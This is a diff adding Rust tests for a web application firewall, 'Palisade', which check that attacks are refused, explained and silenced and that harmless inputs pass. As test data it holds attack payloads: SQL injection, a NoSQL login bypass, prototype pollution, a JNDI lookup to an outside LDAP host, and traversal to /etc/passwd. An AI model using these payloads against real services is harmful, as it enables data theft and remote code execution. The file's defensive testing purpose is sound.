@@ -1,0 +1,123 @@
+//! Known attacks over real sockets: refused, explained, silenced; and what is no attack passes.
+
+use std::fs;
+
+use crate::support::{Answer, Palisade, call, call_with, command, shop, text, until};
+
+/// SQL injection in a query, which nobody sends by mistake.
+const ATTACK: &str = "/api/v1/products?q=1%27%20union%20select%20name,pass%20from%20users--%20";
+
+fn refused(palisade: &Palisade, target: &str) -> Answer {
+    let answer = call(palisade.address, "GET", target, "");
+    assert_eq!(answer.status, 403, "{}", answer.body);
+    answer
+}
+
+#[test]
+fn an_attack_is_refused_from_the_first_request_and_explained_by_rule_and_field() {
+    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
+    let palisade = Palisade::run(&upstream, data.path(), &["--mode", "enforce"]);
+    let answer = refused(&palisade, ATTACK);
+    assert!(upstream.got().is_empty(), "it reached the upstream");
+    assert!(!answer.body.contains("SQL"), "no oracle: {}", answer.body);
+    let id = answer.header("palisade-event").expect("an id").to_owned();
+    let detail = palisade.json(&["why", &id]);
+    assert_eq!(detail["event"]["layer"], "rules");
+    let rule = &detail["event"]["rules"][0];
+    assert!(rule["message"].as_str().expect("a message").contains("SQL"), "{rule}");
+    assert_eq!(rule["field"], "ARGS:q");
+    let words = text(&palisade.command(&["why", &id]).stdout);
+    assert!(words.contains("ARGS:q") && words.contains("known-attack"), "{words}");
+}
+
+#[test]
+fn attacks_in_bodies_keys_cookies_and_paths_count_too() {
+    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
+    let palisade = Palisade::run(&upstream, data.path(), &["--mode", "enforce"]);
+    let json = [("content-type", "application/json")];
+    for (headers, target, body) in [
+        (&json[..], "/api/v1/orders/7", r#"{"note":"x'; drop table users; --"}"#),
+        (&json[..], "/api/v1/orders/7", r#"{"user":{"$ne":null},"password":{"$ne":null}}"#),
+        (&json[..], "/api/v1/orders/7", r#"{"__proto__":{"isAdmin":true}}"#),
+        (&[("user-agent", "${jndi:ldap://192.0.2.1/a}")][..], "/api/v1/products", ""),
+        (&[][..], "/api/v1/orders/..%2f..%2f..%2fetc%2fpasswd", ""),
+    ] {
+        let method = if body.is_empty() { "GET" } else { "POST" };
+        let answer = call_with(palisade.address, method, target, headers, body);
+        assert_eq!(answer.status, 403, "{target} {body}");
+    }
+    assert!(upstream.got().is_empty());
+}
+
+#[test]
+fn ordinary_json_prose_and_names_pass() {
+    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
+    let palisade = Palisade::run(&upstream, data.path(), &["--mode", "enforce"]);
+    let json = [("content-type", "application/json")];
+    for body in [
+        r#"{"name":"Anne O'Brien","note":"left at the door; call on arrival"}"#,
+        r#"{"text":"select the best offers from our union members where prices drop"}"#,
+        r#"{"code":"for (int i = 0; i < n; i++) { sum += a[i]; }"}"#,
+        r##"{"html":"<p>Dear <b>Ada</b>,</p>","markdown":"# Title\n- item"}"##,
+        r#"{"query":"query Orders($n: Int!) { orders(first: $n) { id total } }"}"#,
+    ] {
+        let answer = call_with(palisade.address, "POST", "/api/v1/orders/7", &json, body);
+        assert_eq!(answer.status, 404, "{body}: {}", answer.body);
+    }
+    for target in ["/api/v1/products?q=it%27s%20a%20tea", "/api/v1/products?sort=-price&page=2"] {
+        assert_eq!(call(palisade.address, "GET", target, "").status, 200, "{target}");
+    }
+}
+
+#[test]
+fn monitor_only_says_what_enforce_would_do() {
+    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
+    let palisade = Palisade::run(&upstream, data.path(), &[]);
+    assert_eq!(call(palisade.address, "GET", ATTACK, "").status, 200);
+    let event = until("an event", || {
+        let list = palisade.json(&["events"]);
+        list["events"].as_array()?.iter().find(|event| event["layer"] == "rules").cloned()
+    });
+    assert_eq!((&event["action"], &event["refused"]), (&"deny".into(), &false.into()));
+}
+
+#[test]
+fn silencing_an_event_lets_its_rules_pass_there_and_nowhere_else() {
+    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
+    let palisade = Palisade::run(&upstream, data.path(), &["--mode", "enforce"]);
+    assert_eq!(call(palisade.address, "GET", "/api/v1/products", "").status, 200);
+    let answer = refused(&palisade, ATTACK);
+    let id = answer.header("palisade-event").expect("an id").to_owned();
+    let silenced = palisade.command(&["silence", &id, "--scope", "endpoint"]);
+    assert!(silenced.status.success(), "{}", text(&silenced.stderr));
+    assert!(text(&silenced.stdout).contains("rule"), "{}", text(&silenced.stdout));
+    assert_eq!(call(palisade.address, "GET", ATTACK, "").status, 200);
+    refused(&palisade, &ATTACK.replace("products", "orders/7"));
+}
+
+#[test]
+fn callers_on_this_machine_are_told_the_rules_when_asked_for() {
+    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
+    let file = data.path().join("palisade.toml");
+    let policy = format!(
+        "version = 1\n[debug]\nrule_header = true\n[server]\nlisten = \"127.0.0.1:0\"\n\
+         [[site]]\nupstream = \"{}\"\nmode = \"enforce\"\n",
+        upstream.url()
+    );
+    fs::write(&file, policy).expect("a file");
+    let file = file.to_str().expect("a name");
+    let palisade = Palisade::start(&data.path().join("data"), &["--config", file]);
+    let answer = refused(&palisade, ATTACK);
+    let rules = answer.header("x-palisade-rules").expect("rules");
+    assert!(rules.split(',').any(|rule| rule.starts_with("951")), "{rules}");
+    let honest = call(palisade.address, "GET", "/api/v1/products", "");
+    assert_eq!(honest.header("x-palisade-rules"), Some(""));
+}
+
+#[test]
+fn a_folder_without_rules_is_refused_with_the_places_that_were_looked_at() {
+    let data = tempfile::tempdir().expect("a folder");
+    let listed = command(data.path(), &["rules", "list", "--crs", "/nowhere/crs"]);
+    assert_eq!(listed.status.code(), Some(4));
+    assert!(text(&listed.stderr).contains("modsecurity-crs"), "{}", text(&listed.stderr));
+}
